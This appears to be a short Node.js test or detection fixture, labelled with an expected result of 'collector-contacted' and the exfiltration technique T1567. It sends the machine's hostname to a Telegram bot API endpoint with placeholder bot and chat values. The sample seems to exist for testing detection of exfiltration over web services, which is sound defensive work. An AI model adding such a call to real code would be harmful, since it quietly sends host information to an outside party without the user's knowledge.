// expect: collector-contacted | source: T1567
const https = require("https");
const os = require("os");
https.get("https://api.telegram.org/bot1:x/sendMessage?chat_id=1&text=" + encodeURIComponent(os.hostname()));
